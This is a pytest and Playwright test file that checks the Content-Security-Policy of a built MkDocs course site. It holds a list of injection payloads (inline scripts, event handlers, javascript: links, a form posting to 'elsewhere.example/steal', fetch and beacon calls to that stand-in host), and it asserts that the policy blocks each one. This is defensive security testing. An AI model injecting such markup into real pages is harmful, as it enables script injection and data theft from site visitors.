"""The Content-Security-Policy of the built pages: the whole site works under it, and attacks do not."""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import output
import pytest
from conftest import ROOT, copy_of_repository, run_mkdocs, serving
from giscus_double import Double
from mkdocs.config import load_config
from output_rules import THEME, PageRules, script_hash
from page_head import DIRECTIVES, FORK, HASHES, WITH_GISCUS, pages, policy_of
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page, expect

DAY = "/days/day-08-energy/"
# Tells of every violation, from the first byte of a page on.
WATCH = "addEventListener('securitypolicyviolation', (e) => console.error('VIOLATION ' + e.effectiveDirective + ' ' + e.blockedURI))"


def test_each_page_carries_the_policy_and_giscus_is_in_it_only_where_comments_are(site: Path, site_with_comments: Path) -> None:
    assert {'class="comments__place"' in html for html in pages(site_with_comments).values()} == {True, False}
    for built in (site, site_with_comments):
        for name, html in pages(built).items():
            assert policy_of(html) == (WITH_GISCUS if 'class="comments__place"' in html else DIRECTIVES), name


def test_the_list_of_hashes_is_that_of_the_inline_scripts(site: Path, site_with_comments: Path) -> None:
    inline = set()
    for html in (*pages(site).values(), *pages(site_with_comments).values()):
        page = PageRules(FORK, FORK, HASHES)
        page.feed(html)
        inline |= set(page.inline)
    found = {script_hash(text): text for text in inline}
    say = "\n".join(
        [f"Not on the list, so blocked in a browser: {value}\n  {found[value]}" for value in sorted(found.keys() - HASHES)]
        + [f"On the list, and on no page: {value}" for value in sorted(HASHES - found.keys())]
    )
    assert not say, (
        "The inline scripts of the pages and the list in overrides/partials/content-security-policy.html differ. After an upgrade of the "
        "theme: read each new script below, make sure that the theme wrote it, put its hash into the list and take out those that no page "
        f"has. Without an upgrade: somebody brought a script into a page; do not add its hash.\n{say}"
    )


def test_the_policy_is_short_enough_to_leave_the_character_set_where_browsers_look_for_it(site: Path) -> None:
    for name, html in pages(site).items():
        assert html.encode().index(b'<meta charset="utf-8">') < 1000, name


# What our overrides of the theme's parts were written against.
OVERRIDDEN = {
    "404.html": "sha256-gMk0lLVDKxvN8pLK62egZTxFs3Ny9J4IrUpwymladJU=",
    "main.html": "sha256-mUi1WnvJecNYJd+ZurqeaXH8pOspjeo83eYemQot5eA=",
    "partials/javascripts/base.html": "sha256-1hE3ErxN6zC0vYEO4N/Ci28E0viMwAFsDxdm6se3YrY=",
    "partials/source.html": "sha256-aEdhbWe+SSDTnCeMJ5m/ICIrvALuKoOTrKhePqpRh1I=",
}


@pytest.mark.parametrize("name", sorted(OVERRIDDEN))
def test_the_theme_still_has_the_parts_that_we_override(name: str) -> None:
    theirs = (THEME / name).read_text(encoding="utf-8")
    assert script_hash(theirs) == OVERRIDDEN[name], (
        f"The theme changed {name}, which overrides/{name} replaces. Compare the two, bring over what is new, and write "
        f"{script_hash(theirs)} into OVERRIDDEN in tests/test_content_security.py."
    )


def test_every_override_of_the_theme_is_watched() -> None:
    ours = {path.relative_to(ROOT / "overrides").as_posix() for path in (ROOT / "overrides").rglob("*.html")}
    assert {name for name in ours if (THEME / name).is_file()} - {"partials/comments.html"} == set(OVERRIDDEN)


def test_a_preview_can_reload_and_no_build_can_ask_for_that(tmp_path: Path) -> None:
    settings = load_config(str(ROOT / "mkdocs.yml"))
    settings.extra["preview"] = True  # as a pull request would write it
    output.on_startup(command="build", dirty=False)
    output.on_config(settings)
    assert settings.extra["preview"] is False
    output.on_startup(command="serve", dirty=False)
    output.on_config(settings)
    assert settings.extra["preview"] is True
    output.on_startup(command="build", dirty=False)


# --- In a browser --------------------------------------------------------------------------------------------------

class Watched:
    """A context in which each violation, and each error in a script, is written down."""

    def __init__(self, browser: Browser) -> None:
        self.context: BrowserContext = browser.new_context(viewport={"width": 1280, "height": 800}, color_scheme="light")
        self.context.set_default_timeout(8000)
        self.context.add_init_script(WATCH)
        self.context.grant_permissions(["clipboard-read", "clipboard-write"])
        self.seen: list[str] = []
        self.context.on("console", self.note)
        self.context.on("weberror", lambda error: self.seen.append(f"error: {error.error}"))

    def note(self, message: ConsoleMessage) -> None:
        if "VIOLATION" in message.text or "Content Security Policy" in message.text or "Content-Security-Policy" in message.text:
            self.seen.append(message.text)


@pytest.fixture
def watched(browser: Browser) -> Iterator[Watched]:
    watched = Watched(browser)
    yield watched
    watched.context.close()


def search(page: Page, word: str) -> None:
    page.keyboard.press("/")
    page.keyboard.type(word)
    result = page.locator(".md-search-result__link").first
    expect(result).to_be_visible()
    page.keyboard.press("Enter")
    page.wait_for_url("**/?h=*")
    expect(page.locator("mark").first).to_be_attached()


def toggle_palette_twice(page: Page) -> None:
    seen = set()
    for _ in range(3):
        page.locator(".md-header__option label:not([hidden])").click()
        seen.add(page.evaluate("document.body.dataset.mdColorScheme"))
    assert seen == {"default", "slate"}


def read_comments(page: Page) -> None:
    page.locator(".comments__open").click()
    expect(page.frame_locator(".comments iframe").locator("#told")).to_have_text(re.compile("light|dark"))


def solve(page: Page) -> None:
    """Run the starter of the day in the page; Node has to be there for it, as it is wherever the site is published."""
    if page.locator("meta[name=challenge-runtime]").count():
        page.get_by_role("button", name="Run and check").click()
        expect(page.locator(".challenge__status")).to_contain_text("checks passed")


def test_the_whole_journey_without_one_violation(watched: Watched, site_with_comments: Path, tmp_path: Path) -> None:
    """As a project page on GitHub Pages: in a folder of the origin."""
    (tmp_path / "ml-dl-morocco").symlink_to(site_with_comments)
    Double(watched.context)
    page = watched.context.new_page()
    with serving(tmp_path) as origin:
        home = origin + "/ml-dl-morocco"
        for name in pages(site_with_comments):
            page.goto(f"{home}/{name}")
            page.wait_for_function("document.querySelector('html.js') !== null")
            expect(page.locator("h1").first).to_be_visible()
        toggle_palette_twice(page)
        page.goto(home + "/404.html")
        page.get_by_role("link", name="twelve days").click()
        page.wait_for_url(home + "/")
        search(page, "desalination")
        page.goto(home + DAY)
        assert page.locator(".chart svg").first.bounding_box()
        page.locator(".highlight").first.hover()
        page.locator(".highlight button, .highlight .md-clipboard").first.click()
        expect(page.locator(".md-dialog")).to_contain_text("Copied")
        assert "WIND_FARM" in page.evaluate("navigator.clipboard.readText()")
        page.locator("article [title]").first.hover()
        page.locator("details > summary").first.click()
        page.locator(".footnote-ref").first.click()
        read_comments(page)
        solve(page)
        page.emulate_media(media="print", color_scheme="dark")
        page.evaluate("dispatchEvent(new Event('beforeprint'))")
        page.emulate_media(media="screen")
        page.get_by_role("link", name="Next: Day 9").click()
        expect(page.locator(".md-content h1")).to_contain_text("Water")
        page.set_viewport_size({"width": 360, "height": 700})
        page.locator("label[for=__drawer].md-header__button").click()
        expect(page.locator(".md-nav--primary")).to_be_in_viewport()
    assert watched.seen == []


def test_instant_navigation_without_one_violation(watched: Watched, tmp_path: Path) -> None:
    root, built = copy_of_repository(tmp_path / "copy"), tmp_path / "site"
    built.mkdir()
    settings = root / "mkdocs.yml"
    settings.write_text(settings.read_text(encoding="utf-8").replace("  features:\n", "  features:\n    - navigation.instant\n"), encoding="utf-8")
    Double(watched.context)
    with serving(built) as origin:
        ran = run_mkdocs(root, built, "--strict", GITHUB_REPOSITORY="amina/x", GISCUS_REPO_ID="R_kgDOtest", GISCUS_CATEGORY="A",
                         GISCUS_CATEGORY_ID="DIC_kwDOtest", SITE_URL=f"{origin}/")
        assert ran.returncode == 0, ran.stdout + ran.stderr
        page = watched.context.new_page()
        page.goto(origin + "/")
        page.evaluate("window.sameDocument = true")
        search(page, "federated")
        page.get_by_role("link", name="Previous: ").click()
        expect(page.locator(".md-content h1")).to_be_visible()
        toggle_palette_twice(page)
        page.goto(origin + "/")
        page.evaluate("window.sameDocument = true")
        page.locator(".days").get_by_role("link", name="Energy").click()
        expect(page.locator(".md-content h1")).to_contain_text("Energy")
        read_comments(page)
        page.get_by_role("link", name="Next: ").click()
        expect(page.locator(".md-content h1")).to_contain_text("Water")
        read_comments(page)
        assert page.evaluate("window.sameDocument") is True, "the pages were loaded anew: the test would prove nothing"
    assert watched.seen == []


def test_the_runtime_of_the_challenges_may_start_in_a_worker(watched: Watched, site: Path, tmp_path: Path) -> None:
    if not (site / "assets/micropython/micropython.mjs").is_file():
        (pytest.fail if shutil.which("npm") else pytest.skip)("The runtime comes with npm: run `python dev.py test`.")
    copy = tmp_path / "site"
    shutil.copytree(site, copy)
    (copy / "worker.js").write_text(
        "import { loadMicroPython } from './assets/micropython/micropython.mjs';"
        "const python = await loadMicroPython({ stdout: (line) => postMessage(line) }); python.runPython('print(6 * 7)');", encoding="utf-8")
    with serving(copy) as origin:
        page = watched.context.new_page()
        page.goto(origin + DAY)
        said = page.evaluate("""() => new Promise((resolve, reject) => {
            const worker = new Worker("../../worker.js", { type: "module" });
            worker.onmessage = ({ data }) => resolve(data); worker.onerror = () => reject(new Error("the worker did not start"));
        })""")
    assert said.strip() == "42"
    assert watched.seen == []


@dataclass
class Attack:
    """Markup that does harm: `lands` is what shows it in the page (a request to elsewhere shows it by itself)."""

    markup: str
    directive: str
    act: str = "null"
    lands: str = "window.hit === 1"


EVIL = "https://elsewhere.example"
ATTACKS = {
    "an inline script": Attack("<script>hit = 1</script>", "script-src-elem"),
    "an event handler": Attack("<img src='../../assets/images/mark.svg' onload='hit = 1'>", "script-src-attr"),
    "a handler in an SVG": Attack("<svg onload='hit = 1'></svg>", "script-src-attr"),
    "a javascript: link": Attack("<a id=it href='javascript:hit=1;void 0'>x</a>", "script-src-elem", "it.click()"),
    "a script from elsewhere": Attack(f"<script src='{EVIL}/x.js'></script>", "script-src-elem"),
    "a script from giscus": Attack("<script src='https://giscus.app/client.js'></script>", "script-src-elem"),
    "a module from data:": Attack("<script type=module src='data:text/javascript,window.hit=1'></script>", "script-src-elem"),
    "text run as a script": Attack("", "script-src", "void setTimeout('hit = 1')"),
    "a style sheet from elsewhere": Attack(f"<link rel=stylesheet href='{EVIL}/x.css'>", "style-src-elem"),
    "an inline style sheet": Attack("<style>h1 { display: none }</style>", "style-src-elem", lands="getComputedStyle(document.querySelector('h1')).display === 'none'"),
    "a style attribute": Attack("<p id=it style='position: fixed'>x</p>", "style-src-attr", lands="getComputedStyle(it).position === 'fixed'"),
    "a frame": Attack(f"<iframe src='{EVIL}/x.html'></iframe>", "frame-src"),
    "a frame with its page in it": Attack("<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>", "script-src-elem"),
    "a form": Attack(f"<form id=it action='{EVIL}/steal'><input name=q value=1></form>", "form-action", "it.submit()"),
    "an object": Attack(f"<object data='{EVIL}/x.html'></object>", "object-src"),
    "an embedded file": Attack(f"<embed src='{EVIL}/x.html'>", "object-src"),
    "another base": Attack(f"<base href='{EVIL}/'>", "base-uri", lands="document.baseURI.startsWith('https://elsewhere')"),
    "a picture from elsewhere": Attack(f"<img src='{EVIL}/x.png'>", "img-src"),
    "a film from elsewhere": Attack(f"<video src='{EVIL}/x.mp4'></video>", "media-src"),
    "a call to elsewhere": Attack("", "connect-src", f"void fetch('{EVIL}/x', {{mode: 'no-cors'}}).catch(() => 0)"),
    "a beacon to elsewhere": Attack("", "connect-src", f"void navigator.sendBeacon('{EVIL}/x', 'data')"),
    "a worker out of thin air": Attack("", "worker-src", "void (() => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => { hit = 1 } })()"),
}


def attacked(browser: Browser, folder: Path, name: str) -> tuple[bool, list[str]]:
    """Open the page with the attack in it. Return whether it landed, and the directives that were violated."""
    attack, asked, watched = ATTACKS[name], [], Watched(browser)
    watched.context.route(re.compile("elsewhere.example|giscus.app"), lambda route: (asked.append(route.request.url), route.fulfill(body=""))[0])  # type: ignore[func-returns-value]
    page = watched.context.new_page()
    with serving(folder) as origin:
        page.goto(origin + "/about/", wait_until="domcontentloaded")
        # As a script of the page would do it: what Playwright evaluates stands outside the policy.
        page.evaluate(f"() => {{ try {{ {attack.act} }} catch (_) {{ 0 }} }}")
        page.wait_for_timeout(500)
        landed = bool(asked) or (page.url.startswith(origin) and page.evaluate(attack.lands) is True)
    watched.context.close()
    return landed, [line.split()[1] for line in watched.seen if line.startswith("VIOLATION")]


@pytest.fixture(scope="module")
def copy(site: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the site, whose page `about` each attack writes anew."""
    return shutil.copytree(site, tmp_path_factory.mktemp("attacked") / "site")


@pytest.mark.parametrize("name", ATTACKS)
def test_the_policy_blocks(browser: Browser, site: Path, copy: Path, name: str) -> None:
    page = copy / "about" / "index.html"  # a page without comments
    html = (site / "about" / "index.html").read_text(encoding="utf-8").replace("</article>", ATTACKS[name].markup + "</article>")
    page.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html), encoding="utf-8")
    landed, violated = attacked(browser, copy, name)
    assert landed and not violated, "without the policy this attack must land, or the test proves nothing"
    page.write_text(html, encoding="utf-8")
    landed, violated = attacked(browser, copy, name)
    assert not landed and ATTACKS[name].directive in violated
